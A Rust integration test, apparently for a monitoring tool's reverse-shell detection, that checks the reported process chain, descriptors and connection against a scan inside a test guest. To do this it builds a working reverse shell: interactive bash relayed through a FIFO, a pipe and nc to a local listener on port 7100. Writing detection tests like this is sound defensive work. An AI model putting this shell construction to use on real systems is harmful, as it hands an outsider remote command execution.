//! A reverse shell's record has each process of the chain, with its descriptors and its connection
//! (§11.8 of the guide of DOCA Argus). All values are compared with `panoptes scan`, which other
//! tests compare with the truth inside the guest.

use std::collections::BTreeSet;

use panoptes_rig::Guest;
use serde_json::Value;

use crate::record::only;
use crate::watcher::Watcher;
use crate::{barrier, inside};

const PORT: u64 = 7100;
const DETECTED: &str = "reverse_shell_detected";
/// Attributes that change while the processes of the chain wait.
const COUNTED: [&str; 3] = ["process_cpu_clock_cycles", "process_cpu_time_ns", "process_state"];
/// Times that change as bytes go through a pipe: a later scan has equal or later ones.
const TIMES: [&str; 3] = [
    "file_descriptor_inode_access_time_iso_8601_ns",
    "file_descriptor_inode_modify_time_iso_8601_ns",
    "file_descriptor_inode_change_time_iso_8601_ns",
];
/// Counters that grow meanwhile: the prompt is sent a moment later.
const CARRIED: [&str; 4] = ["tcp_bytes_in", "tcp_bytes_out", "tcp_segments_in", "tcp_segments_out"];
/// Attributes that may not be known yet when the alert is due.
const LATER: [&str; 5] = [
    "process_hash_sha256",
    "process_hash_sha1",
    "process_hash_md5",
    "tcp_average_bytes_in",
    "tcp_average_bytes_out",
];
/// Keys that only the lines of a scan have: the kind of the object, and its owner.
const OWN: [&str; 4] = ["kind", "process_id", "network_namespace", "system"];

/// The one line of this kind and process in which this attribute has this value.
fn line<'a>(
    lines: &'a [Value],
    kind: &str,
    process: &Value,
    key: &str,
    value: &Value,
) -> &'a Value {
    let is_it = |line: &&Value| {
        line["kind"] == kind && line["process_id"] == *process && line[key] == *value
    };
    let found: Vec<&Value> = lines.iter().filter(is_it).collect();
    assert_eq!(found.len(), 1, "{kind} of process {process} with {key} {value}: {found:?}");
    found[0]
}

/// Compares all attributes of a record's object with a line of a scan.
fn same(details: &Value, line: &Value, except: &[&str]) {
    let details = details.as_object().unwrap();
    for (key, value) in details.iter().filter(|(key, _)| !except.contains(&key.as_str())) {
        if TIMES.contains(&key.as_str()) {
            assert!(value.as_str() <= line[key].as_str(), "{key} of {details:?}");
        } else if CARRIED.contains(&key.as_str()) {
            assert!(value.as_u64() <= line[key].as_u64(), "{key} of {details:?}");
        } else {
            assert_eq!(*value, line[key], "{key} of {details:?}");
        }
    }
    for key in line.as_object().unwrap().keys() {
        let is_known = details.contains_key(key) || OWN.contains(&key.as_str());
        let is_known = is_known || LATER.contains(&key.as_str());
        assert!(is_known || except.contains(&key.as_str()), "no {key} in {details:?}");
    }
}

/// Checks the record of a shell whose input and output another process relays over a connection.
pub(crate) fn is_reported_by_value(guest: &mut Guest, watcher: &Watcher) {
    let server = format!("nc -l -p {PORT} <>/tmp/silent >/dev/null 2>&1 &");
    inside::run(guest, &format!("busybox mkfifo /tmp/relay /tmp/silent; {server}"));
    barrier::wait_for_listener(guest, watcher, PORT);
    // The connection begins last. A shell that is starting has other descriptors too. At the prompt
    // for its first command, it has only those that it keeps.
    let ready = "while read -r line; do case $line in *ready*) break; esac; done";
    let relay = format!("{ready}; exec nc 10.0.2.15 {PORT}");
    let shell = "TERM=dumb PS1='ready\\n$ ' bash --norc -i";
    let script = format!("({shell} </tmp/relay 2>&1 | ({relay}) >/tmp/relay) >/dev/null 2>&1 &");
    inside::run(guest, &script);
    let is_it = |record: &crate::record::Record| record.is(DETECTED);
    watcher.wait_for("the reverse shell", is_it);
    let lines = inside::scan(guest, "processes,files,connections");
    let records = watcher.records();
    let record = only(&records, "the reverse shell", is_it);
    let chain = record.details("reverse_shell")["process_list"].as_array().unwrap();
    let names: Vec<&Value> =
        chain.iter().map(|member| &member["process_details"]["process_name"]).collect();
    assert_eq!(names, ["nc", "bash"], "{record}");
    // The path of the bytes: from the pipe into the connection, and from there into the FIFO.
    // Without a terminal, an interactive bash keeps its standard error as descriptor 255 instead.
    let expected: [&[(u64, &str)]; 2] = [
        &[(0, "PIPE"), (1, "FIFO"), (3, "SOCKET")],
        &[(0, "FIFO"), (1, "PIPE"), (2, "PIPE"), (255, "PIPE")],
    ];
    for (member, expected) in chain.iter().zip(expected) {
        let member = &member["process_details"];
        let process = &member["process_id"];
        let lists = ["file_descriptor_list", "network_connection_list"];
        same(
            member,
            line(&lines, "process", process, "process_id", process),
            &[&COUNTED[..], &lists].concat(),
        );
        let descriptors = member["file_descriptor_list"].as_array().unwrap();
        let mut seen = BTreeSet::new();
        for descriptor in descriptors {
            let details = &descriptor["file_descriptor_details"];
            let (key, kind) = ("file_descriptor_index", "file_descriptor_file_type");
            same(details, line(&lines, "file_descriptor", process, key, &details[key]), &[]);
            seen.insert((details[key].as_u64().unwrap(), details[kind].as_str().unwrap()));
        }
        assert_eq!(seen, expected.iter().copied().collect(), "{record}");
    }
    let connections = |member: &Value| {
        member["process_details"]["network_connection_list"].as_array().cloned().unwrap_or_default()
    };
    assert_eq!((connections(&chain[0]).len(), connections(&chain[1]).len()), (1, 0), "{record}");
    let connection = &connections(&chain[0])[0]["network_connection_details"];
    assert_eq!(connection["destination_port"], PORT);
    let process = &chain[0]["process_details"]["process_id"];
    let key = "source_port";
    let created = only(&records, "its connection", |record| {
        let details = record.details("network_connection");
        record.is("network_connection_created") && details[key] == connection[key]
    });
    let begun = "tcp_connection_creation_time_iso_8601_ns";
    assert_eq!(connection[begun], created.details("network_connection")[begun], "{record}");
    let times = [
        "tcp_connection_overall_duration_ns",
        begun,
        "tcp_average_bytes_in",
        "tcp_average_bytes_out",
    ];
    same(connection, line(&lines, "connection", process, key, &connection[key]), &times);
    inside::run(guest, &format!("kill {process}"));
}
